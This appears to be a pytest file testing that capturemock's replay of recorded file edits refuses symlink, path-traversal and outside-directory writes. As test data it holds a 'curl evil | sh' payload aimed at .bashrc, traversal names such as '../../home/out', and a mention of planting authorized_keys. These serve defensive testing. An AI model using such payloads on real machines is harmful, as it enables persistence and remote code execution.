"""Hostile file edits (product spec §3, security): a mock file and its ``file_edits`` dir come from a
repository. Replaying them must not write, delete or read anything outside the paths the command names,
never through a symbolic link, and never destroy anything outside the test's working directory unless
the rc allows it. Each refusal is one stderr line naming the mock file and line; the command's output
still replays. ``home`` stands in for $HOME: a directory outside the test dir that must stay untouched."""
from __future__ import annotations

import os
import subprocess
import textwrap
from pathlib import Path

import pytest

import capturemock
from capturemock.cmdline.fileedits_sandbox import EditRefused, check_fil_name
from capturemock.errors import CaptureMockError
from capturemock.modes import RECORD, REPLAY

pytestmark = pytest.mark.skipif(os.name == "nt", reason="symlinks are POSIX here")

RC = "[command line]\nintercepts = tool\n"


class Workspace:
    """A TextTest-like test directory next to a stand-in home directory, with replay of command lines."""

    def __init__(self, base: Path):
        self.dir = base / "test"
        self.edits = self.dir / "file_edits"
        self.home = base / "home"
        for directory in (self.dir / "bin", self.edits, self.home):
            directory.mkdir(parents=True)
        self.env: dict[str, str] = {}
        self.server_errors: list[str] = []

    def stored(self, rel: str, text: str = "") -> Path:
        path = self.edits / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def start(self, mode: int, mock: str = "", rc: str = RC) -> None:
        (self.dir / "capturemockrc").write_text(rc)
        replay = None
        if mock:
            replay = str(self.dir / "stored.mock")
            Path(replay).write_text(textwrap.dedent(mock))
        self.env = {"PATH": f"{self.dir / 'bin'}:/usr/bin:/bin", "HOME": str(self.home), "LANG": "C.UTF-8"}
        assert capturemock.setUpServer(mode, str(self.dir / "new.mock"), replay,
                                       recordEditDir=str(self.dir / "new_edits"), replayEditDir=str(self.edits),
                                       rcFiles=[str(self.dir / "capturemockrc")],
                                       interceptDir=str(self.dir / "intercepts"), sutDirectory=str(self.dir),
                                       environment=self.env, stderrFn=self.server_errors.append)

    def run(self, *argv: str) -> subprocess.CompletedProcess:
        return subprocess.run(list(argv), cwd=self.dir, env=self.env, capture_output=True, text=True, timeout=30)

    def refusals(self) -> list[str]:
        """Lines the server printed on stderr, once it has stopped."""
        capturemock.terminate()
        return [line for text in self.server_errors for line in text.splitlines()[1:]]


@pytest.fixture
def work(tmp_path):
    made = Workspace(tmp_path)
    yield made
    capturemock.terminate()


def tree(root: Path) -> dict[str, str]:
    """Every file (content), dir (``/``) and symlink (``-> target``) under root, links not followed."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            found[rel] = f"-> {os.readlink(path)}" if path.is_symlink() else "/" if path.is_dir() else path.read_text()
    return found


def home_with_victims(work: Workspace) -> dict[str, str]:
    (work.home / "dir").mkdir()
    (work.home / "dir" / "precious.txt").write_text("precious")
    (work.home / "y").write_text("keep me")
    (work.home / ".bashrc").write_text("original")
    return tree(work.home)


# --- item 1: edits through a restored link; deleting what a command merely names --------------------------

def test_a_restored_link_is_data_and_no_later_edit_goes_through_it(work):
    before = home_with_victims(work)
    (work.dir / "out").mkdir()
    work.stored("out/evil.CAPTUREMOCK_SYMLINK", f"{work.home}\n")
    work.stored("out.edit_2/evil/x", "pwned")
    work.stored("out.edit_2/evil/y.CAPTUREMOCK_DELETION")
    work.stored("out.edit_2/evil/dir.CAPTUREMOCK_DELETION")
    work.start(REPLAY, """\
        <-CMD:tool out
        ->FIL:out
        <-CMD:tool out
        ->FIL:out.edit_2
        ->OUT:second done
        """)
    assert work.run("tool", "out").returncode == 0
    second = work.run("tool", "out")
    assert (second.stdout, second.returncode) == ("second done\n", 0)
    assert tree(work.home) == before
    assert os.readlink(work.dir / "out" / "evil") == str(work.home)  # restored as a link: it is data
    refusals = work.refusals()
    mock = work.dir / "stored.mock"
    assert len(refusals) == 3 and all(line.startswith(f"{mock}:4: refused to ") for line in refusals)
    assert f"refused to write {work.dir}/out/evil/x: {work.dir}/out/evil is a symbolic link" in "\n".join(refusals)


def test_a_command_naming_the_restored_link_itself_cannot_write_through_it(work):
    before = home_with_victims(work)
    (work.dir / "out").mkdir()
    work.stored("out/evil.CAPTUREMOCK_SYMLINK", f"{work.home}\n")
    work.stored("evil/.bashrc", "curl evil | sh")
    work.start(REPLAY, """\
        <-CMD:tool out
        ->FIL:out
        <-CMD:tool out/evil
        ->FIL:evil
        """)
    work.run("tool", "out")
    work.run("tool", "out/evil")
    assert tree(work.home) == before
    assert work.refusals() == [f"{work.dir / 'stored.mock'}:4: refused to write {work.dir}/out/evil/.bashrc: "
                               f"{work.dir}/out/evil is a symbolic link, and replay never edits through one"]


def test_deletion_marker_for_a_directory_named_only_as_an_argument_is_refused(work):
    before = home_with_victims(work)
    work.stored("dir.CAPTUREMOCK_DELETION")
    work.stored(".bashrc", "overwritten")
    work.start(REPLAY, f"""\
        <-CMD:tool {work.home}/dir {work.home}/.bashrc
        ->FIL:dir
        ->FIL:.bashrc
        ->OUT:cleaned
        """)
    result = work.run("tool", f"{work.home}/dir", f"{work.home}/.bashrc")
    assert (result.stdout, result.returncode) == ("cleaned\n", 0)
    assert tree(work.home) == before
    outside = f"outside the working directory {work.dir} (set allow_edits_outside = true in [command line] to allow it)"
    mock = work.dir / "stored.mock"
    assert work.refusals() == [f"{mock}:2: refused to delete {work.home}/dir: it is {outside}",
                               f"{mock}:3: refused to write {work.home}/.bashrc: it is {outside}"]
    assert "->FIL:dir\n->FIL:.bashrc\n" in (work.dir / "new.mock").read_text()  # refused, never lost


def test_allow_edits_outside_lets_replay_replace_and_remove_outside_the_test_dir(work):
    home_with_victims(work)
    work.stored("dir.CAPTUREMOCK_DELETION")
    work.stored(".bashrc", "replayed")
    work.start(REPLAY, f"""\
        <-CMD:tool {work.home}/dir {work.home}/.bashrc
        ->FIL:dir
        ->FIL:.bashrc
        """, rc=RC + "allow_edits_outside = true\n")
    work.run("tool", f"{work.home}/dir", f"{work.home}/.bashrc")
    assert tree(work.home) == {"y": "keep me", ".bashrc": "replayed"}
    assert work.refusals() == []


def test_outside_the_test_dir_replay_changes_nothing_by_default(work):
    """Adding is refused too: a program naming $HOME would let a mock plant ~/.ssh/authorized_keys."""
    (work.home / "reports").mkdir()
    (work.home / "reports" / "old.txt").write_text("old")
    work.stored("reports/new.txt", "new")
    work.stored("reports/old.txt", "rewritten")
    work.start(REPLAY, f"<-CMD:tool {work.home}/reports\n->FIL:reports\n")
    work.run("tool", f"{work.home}/reports")
    assert tree(work.home / "reports") == {"old.txt": "old"}
    assert sorted(line.split(": ", 1)[1] for line in work.refusals()) == [
        f"refused to write {work.home}/reports/{name}: it is outside the working directory {work.dir} "
        "(set allow_edits_outside = true in [command line] to allow it)" for name in ("new.txt", "old.txt")]


def test_a_malformed_allow_edits_outside_stops_the_start_naming_file_and_line(work):
    with pytest.raises(CaptureMockError, match=r"capturemockrc:3: allow_edits_outside = 'sure' is not a boolean"):
        work.start(REPLAY, "<-CMD:tool\n", rc=RC + "allow_edits_outside = sure\n")


# --- item 4: names that reach outside the edit store ------------------------------------------------------

@pytest.mark.parametrize("name", ["ABS", "../../home/out"])
def test_fil_names_that_leave_the_edit_store_are_refused_and_kept(work, name):
    (work.home / "out").mkdir()
    (work.home / "out" / "id_rsa").write_text("secret key")
    (work.dir / "out").mkdir()
    name = str(work.home / "out") if name == "ABS" else name
    work.start(REPLAY, f"<-CMD:tool out\n->FIL:{name}\n->OUT:listed\n")
    result = work.run("tool", "out")
    assert (result.stdout, result.returncode) == ("listed\n", 0)
    assert tree(work.dir / "out") == {}
    refusals = work.refusals()
    assert len(refusals) == 1 and refusals[0].startswith(f"{work.dir / 'stored.mock'}:2: refused '->FIL:{name}': ")
    assert f"->FIL:{name}\n->OUT:listed\n" in (work.dir / "new.mock").read_text()


def test_links_inside_the_edit_store_are_never_followed(work):
    (work.home / "out").mkdir()
    (work.home / "out" / "id_rsa").write_text("secret key")
    (work.home / "token").write_text("secret token")
    (work.dir / "out").mkdir()
    (work.edits / "out").symlink_to(work.home / "out")  # a checked-out link standing for a stored edit
    work.stored("out.edit_2/fine.txt", "fine")
    (work.edits / "out.edit_2" / "token").symlink_to(work.home / "token")
    (work.edits / "out.edit_2" / "alias.CAPTUREMOCK_SYMLINK").symlink_to(work.home / "token")
    work.start(REPLAY, "<-CMD:tool out\n->FIL:out\n<-CMD:tool out\n->FIL:out.edit_2\n")
    work.run("tool", "out")
    work.run("tool", "out")
    assert tree(work.dir / "out") == {"fine.txt": "fine"}
    refusals = work.refusals()
    assert len(refusals) == 3 and all(" is a symbolic link (the store keeps links as" in line for line in refusals)


@pytest.mark.parametrize("name", ["", ".", "..", "a\0b", "/etc", "sub/out", "../x"])
def test_fil_name_must_be_one_plain_file_name(name):
    with pytest.raises(EditRefused, match="refused '->FIL:"):
        check_fil_name(name)


# --- what still works ------------------------------------------------------------------------------------

def test_legit_edits_round_trip_including_links_and_deletions(work):
    out = work.dir / "out"
    (out / "sub").mkdir(parents=True)
    (out / "old.txt").write_text("old")
    (out / "sub" / "gone.txt").write_text("gone")
    tool = work.dir / "bin" / "tool"
    tool.write_text('#!/bin/sh\necho made > "$1/new.txt"\nln -s new.txt "$1/alias"\nrm "$1/old.txt"\n'
                    'rm -r "$1/sub"\necho changed\n')
    tool.chmod(0o755)
    work.start(RECORD)
    assert work.run("tool", str(out)).stdout == "changed\n"
    capturemock.terminate()
    recorded = tree(out)
    assert recorded == {"new.txt": "made\n", "alias": "-> new.txt"}
    tool.unlink()  # replay never runs the program
    work.edits.rmdir()
    os.rename(work.dir / "new_edits", work.edits)
    os.rename(work.dir / "new.mock", work.dir / "recorded.mock")
    for name in ("new.txt", "alias"):
        (out / name).unlink()
    (out / "old.txt").write_text("old")
    (out / "sub").mkdir()
    (out / "sub" / "gone.txt").write_text("gone")
    work.start(REPLAY, (work.dir / "recorded.mock").read_text())
    replayed = work.run("tool", str(out))
    assert (replayed.stdout, replayed.returncode) == ("changed\n", 0)
    assert tree(out) == recorded
    assert work.refusals() == []
